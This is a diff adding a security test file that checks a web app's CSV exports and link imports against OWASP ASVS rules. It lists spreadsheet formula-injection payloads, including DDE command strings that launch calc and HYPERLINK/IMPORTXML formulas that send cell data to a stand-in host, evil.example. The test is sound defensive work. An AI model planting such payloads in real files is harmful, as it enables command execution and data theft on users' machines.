@@ -1,0 +1,73 @@
+import { parse } from "csv-parse/sync";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { startWorld, type World } from "#tests/security/access-world.ts";
+import { expectHarmlessLink } from "#tests/security/harmless-link.ts";
+import { dangerousLinks } from "#tests/security/injection-payloads.ts";
+
+/** Beginnings that one spreadsheet program or another runs. */
+const dangerousCells: readonly string[] = [
+  "=1+1",
+  '=HYPERLINK("https://evil.example?"&A1)',
+  "=cmd|' /C calc'!A0",
+  "+1+1",
+  "+cmd|' /C calc'!A0",
+  "-1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)",
+  "@evil",
+  '=IMPORTXML("https://evil.example")',
+  '=IMAGE("https://evil.example")',
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(1)",
+  "==1",
+  '="a";="b"',
+  "=1,=2",
+];
+
+let world: World;
+beforeAll(async () => {
+  world = await startWorld();
+}, 30_000);
+afterAll(() => world.stop());
+
+/** Source: OWASP ASVS 5.0, 1.2.10; OWASP CSV Injection; RFC 4180, 2.6 and 2.7. */
+describe("cells of a CSV file", () => {
+  test("begin with nothing that a spreadsheet program runs", async () => {
+    const names = dangerousCells.map((cell, index) => `${cell} no. ${"abcdefghijklmnopqrstuvwxyz"[index]}`);
+    const text = names.map(
+      (name) => `"${name.replaceAll('"', '""')}",example.com,"${name.replaceAll('"', '""')}"`,
+    );
+    await post("/manager/repositories/import/confirm", { text: `name,link,description\n${text.join("\n")}` });
+    for (const [index, name] of names.entries()) {
+      await post("/manager/users/new", { name, email: `cell-${index}@example.org`, role: "user" });
+    }
+    for (const [path, column] of [
+      ["/manager/repositories/export", 0],
+      ["/manager/users/export", 0],
+    ] as const) {
+      const rows: string[][] = parse((await world.send(path, { as: world.administrator })).body, {
+        bom: true,
+      });
+      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/u);
+      // Each is there, behind an apostrophe, with what white space people do not mean taken away.
+      const written = new Set(rows.map((row) => row[column]));
+      for (const name of names) expect(written, path).toContain(`'${name.trim().replaceAll(/\s+/gu, " ")}`);
+    }
+  });
+});
+
+/** Source: OWASP ASVS 5.0, 1.2.2 (URL protocols). */
+test("an imported link is refused, or led to where nothing runs", async () => {
+  for (const [index, link] of dangerousLinks.entries()) {
+    const text = `name,link\nImported ${index},"${link.replaceAll('"', '""')}"`;
+    await post("/manager/repositories/import/confirm", { text });
+  }
+  const rows = await world.server.query<{ link: string }>("SELECT link FROM repository");
+  for (const { link } of rows) expectHarmlessLink(link);
+});
+
+function post(path: string, fields: Record<string, string>) {
+  return world.send(path, { method: "POST", as: world.administrator, body: new URLSearchParams(fields) });
+}
